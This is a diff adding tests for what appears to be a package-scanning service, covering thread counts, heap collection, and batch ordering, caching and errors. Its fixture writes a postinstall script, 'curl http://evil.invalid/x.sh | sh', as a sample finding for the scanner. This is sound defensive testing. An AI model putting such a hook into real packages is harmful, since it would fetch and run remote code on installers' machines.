@@ -192,4 +192,105 @@ describe('the pool', () => {
     expect(threadsFor(1, {})).toBe(0);
     expect(threadsFor(500, {})).toBeGreaterThan(0);
   });
+
+  it('below 4 cores a large batch gets a thread per core (no core idles), a small one none', () => {
+    expect(threadsFor(331, {}, 2)).toBe(2);
+    expect(threadsFor(331, {}, 1)).toBe(1);
+    expect(threadsFor(331, {}, 3)).toBe(3);
+    expect(threadsFor(99, {}, 2)).toBe(0);
+    expect(threadsFor(331, {}, 8)).toBe(4);
+  });
+
+  it('a thread can collect its heap between jobs (what a big package left is given back)', async () => {
+    const { collect } = await import('../../src/engine/worker.js');
+    expect(typeof collect).toBe('function');
+    // ~85 MiB of strings, alive while measured, then dropped.
+    let garbage: string[] | undefined = Array.from({ length: 400_000 }, (_, i) => `garbage ${i} `.repeat(16));
+    const before = process.memoryUsage().heapUsed;
+    expect(garbage.length).toBe(400_000);
+    garbage = undefined;
+    collect!();
+    expect(process.memoryUsage().heapUsed).toBeLessThan(before - 40 * 1024 * 1024);
+  });
+});
+
+describe('a batch (inspectDirs, a dependency tree)', () => {
+  /** Three packages of different sizes, each with a finding, in tree order small, large, medium. */
+  function tree(): Array<{ name: string; dir: string }> {
+    const root = tempDir();
+    return [
+      ['a-small', 1],
+      ['b-large', 40],
+      ['c-medium', 10],
+    ].map(([name, kib]) => {
+      const dir = path.join(root, 'node_modules', String(name));
+      fs.mkdirSync(dir, { recursive: true });
+      fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0', scripts: { postinstall: 'curl http://evil.invalid/x.sh | sh' } }));
+      fs.writeFileSync(path.join(dir, 'data.txt'), 'x'.repeat(Number(kib) * 1024));
+      return { name: String(name), dir };
+    });
+  }
+  const items = (pkgs: Array<{ name: string; dir: string }>) => pkgs.map((p) => ({ kind: 'package' as const, dir: p.dir, packageId: `${p.name}@1.0.0`, excludeNodeModules: true }));
+
+  it('gives each directory what inspectDir gives; hits come from the lookup pass, misses run largest first', async () => {
+    const pkgs = tree();
+    const cacheDir = tempDir();
+    const one = new InspectionService({ cacheDir });
+    const alone = await Promise.all(pkgs.map((p) => one.inspectDir('package', p.dir, { packageId: `${p.name}@1.0.0`, excludeNodeModules: true })));
+    // a-small is now cached in a fresh cache; the other two are not.
+    const second = tempDir();
+    await new InspectionService({ cacheDir: second }).inspectDir('package', pkgs[0].dir, { packageId: 'a-small@1.0.0', excludeNodeModules: true });
+    const order: string[] = [];
+    const got: Record<string, { findings: unknown; cached: boolean }> = {};
+    await new InspectionService({ cacheDir: second }).inspectDirs(items(pkgs), (i, res) => {
+      if (res instanceof Error) throw res;
+      order.push(pkgs[i].name);
+      got[pkgs[i].name] = res;
+    });
+    expect(order).toEqual(['a-small', 'b-large', 'c-medium']);
+    expect(got['a-small'].cached).toBe(true);
+    expect(got['b-large'].cached).toBe(false);
+    pkgs.forEach((p, i) => expect(got[p.name].findings).toEqual(alone[i].findings));
+    expect(alone[0].findings).not.toEqual([]);
+  });
+
+  it('order of the misses is by bytes, not by tree order', async () => {
+    const pkgs = tree().reverse(); // medium, large, small
+    const order: string[] = [];
+    await new InspectionService({ cacheDir: tempDir() }).inspectDirs(items(pkgs), (i) => void order.push(pkgs[i].name));
+    expect(order).toEqual(['b-large', 'c-medium', 'a-small']);
+  });
+
+  it('stopped between jobs: it rejects at once, nothing more starts or is reported, what finished is cached for the retry', async () => {
+    const pkgs = tree();
+    const cacheDir = tempDir();
+    const reported: string[] = [];
+    const stop = new Error('out of time');
+    const batch = new InspectionService({ cacheDir }).inspectDirs(
+      items(pkgs),
+      (i) => void reported.push(pkgs[i].name),
+      {
+        beforeEach: (done) => {
+          if (done >= 1) throw stop;
+        },
+      },
+    );
+    await expect(batch).rejects.toBe(stop);
+    expect(reported).toEqual(['b-large']);
+    // The retry: the finished package is a hit, the others run.
+    const cached: Record<string, boolean> = {};
+    await new InspectionService({ cacheDir }).inspectDirs(items(pkgs), (i, res) => {
+      if (res instanceof Error) throw res;
+      cached[pkgs[i].name] = res.cached;
+    });
+    expect(cached).toEqual({ 'a-small': false, 'b-large': true, 'c-medium': false });
+  });
+
+  it('an engine error is reported for its item and never cached; the rest of the batch goes on', async () => {
+    const pkgs = tree();
+    const missing = { kind: 'package' as const, dir: path.join(tempDir(), 'gone'), packageId: 'gone@1.0.0', excludeNodeModules: true };
+    const results: Array<string> = [];
+    await new InspectionService({ cacheDir: tempDir() }).inspectDirs([missing, ...items(pkgs)], (i, res) => void results.push(res instanceof Error ? `error ${i}` : `ok ${i}`));
+    expect(results.sort()).toEqual(['error 0', 'ok 1', 'ok 2', 'ok 3']);
+  });
 });
